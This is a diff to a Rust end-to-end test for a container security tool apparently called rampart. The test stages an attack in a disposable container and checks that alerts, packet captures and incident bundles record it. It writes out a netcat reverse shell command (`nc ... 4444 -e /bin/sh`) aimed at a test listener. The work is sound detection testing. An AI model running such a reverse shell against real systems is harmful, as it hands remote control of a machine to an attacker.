@@ -6,6 +6,9 @@
 //! `rampart incident` of the first alert writes a bundle whose summary names each
 //! step, a retro-hunt with the shipped rules finds the reverse shell again, and
 //! `rampart query --stats` and `rampart up --stats` show the recorder's counters.
+//! A rule of the test's own (`capture: true`, on a `cat /etc/hostname` right after the
+//! shell) asks for the packets around its alert: the network stage writes them, and
+//! the bundle carries them (tshark reads the reverse shell's connection in them).
 //! Needs root, the kernel and Docker: skips with the reason elsewhere, fails in CI.
 
 mod support;
@@ -38,17 +41,28 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
     let _ = std::fs::remove_dir_all(&dir);
     std::fs::create_dir_all(&dir).unwrap();
     let recording = dir.join("recording");
+    let captures = dir.join("captures");
     let config = dir.join("up.yaml");
+    let rules = rampart_agent::config::default_rules_dir().expect("the shipped rules");
+    let capture_rule = dir.join("capture.yaml");
+    std::fs::write(
+        &capture_rule,
+        "- rule: Packets kept on a hostname read\n  desc: the test's own rule asking for the packets around it (an event no shipped rule takes first)\n  condition: evt.type in (open, openat, openat2) and fd.name = /etc/hostname and proc.name = cat and container.id != host\n  output: hostname read (command=%proc.cmdline)\n  priority: WARNING\n  capture: true\n",
+    )
+    .unwrap();
     std::fs::write(
         &config,
         format!(
-            "recorder:\n  dir: {}\n  stats_secs: 1\n",
-            recording.display()
+            "rules: [{}, {}]\nrecorder:\n  dir: {}\n  stats_secs: 1\nnetwork:\n  state_dir: {}\n  directory_refresh_secs: 1\n  capture:\n    enabled: true\n    before_secs: 20\n    after_secs: 2\n    dir: {}\n",
+            rules.display(),
+            capture_rule.display(),
+            recording.display(),
+            dir.join("network").display(),
+            captures.display()
         ),
     )
     .unwrap();
     let name = "rec-e2e";
-    let rules = rampart_agent::config::default_rules_dir().expect("the shipped rules");
 
     let up = Up::start(&config);
     // The attacker's end: sends the commands, one per line, to whoever calls back.
@@ -66,7 +80,9 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
     );
     let attacker = listener.ip("bridge");
     let container = rampart_testbed::TestContainer::start(name, &[], &[]);
-    std::thread::sleep(Duration::from_millis(500));
+    // The network stage re-reads the containers every second and captures the new
+    // one's packets from then on.
+    std::thread::sleep(Duration::from_secs(3));
     // The reverse shell: the commands above run in the victim through it.
     container.exec(&format!("nc -w 5 {attacker} 4444 -e /bin/sh; true"));
     let dropped = container.exec("ls /tmp");
@@ -74,6 +90,8 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
         dropped.contains("dropper"),
         "the shell ran the commands: {dropped:?}"
     );
+    // The test's capture rule: the packets from 20 s before it (the reverse shell's).
+    container.exec("cat /etc/hostname");
     up.alerts_until("Reverse shell via netcat exec");
     drop(container); // docker rm -f
     drop(listener);
@@ -180,6 +198,37 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
             "{step:?} missing from summary.md:\n{summary}"
         );
     }
+    // The packets around the reverse shell's alert, from the network stage.
+    let captured = rampart(&[
+        "incident",
+        id,
+        "--dir",
+        dir_arg,
+        "-o",
+        bundle.to_str().unwrap(),
+        "--captures",
+        captures.to_str().unwrap(),
+    ]);
+    assert!(captured.contains("1 packet captures"), "{captured}");
+    let summary = read_from_bundle(&bundle, &dir.join("with-packets"), "summary.md");
+    assert!(summary.contains("## Packet captures"), "{summary}");
+    let pcap = walk(&dir.join("with-packets").join("bundle"))
+        .into_iter()
+        .find(|p| p.extension().is_some_and(|e| e == "pcapng"))
+        .expect("a pcapng in the bundle");
+    if rampart_testbed::tool_ready("tshark", &["--version"], "scripts/setup installs tshark") {
+        let out = Command::new("tshark")
+            .arg("-r")
+            .arg(&pcap)
+            .args(["-Y", "tcp.port == 4444", "-T", "fields", "-e", "ip.dst"])
+            .output()
+            .expect("tshark runs");
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            text.contains(&attacker),
+            "the reverse shell's connection is in the bundle's capture:\n{text}"
+        );
+    }
 
     // Retro-hunt: the shipped rules over the recording find the reverse shell again.
     let retro = rampart(&[
@@ -208,6 +257,7 @@ fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
 
 fn read_from_bundle(bundle: &Path, dir: &Path, file: &str) -> String {
     let out = dir.join("bundle");
+    let _ = std::fs::remove_dir_all(&out);
     std::fs::create_dir_all(&out).unwrap();
     let st = Command::new("tar")
         .arg("-xzf")
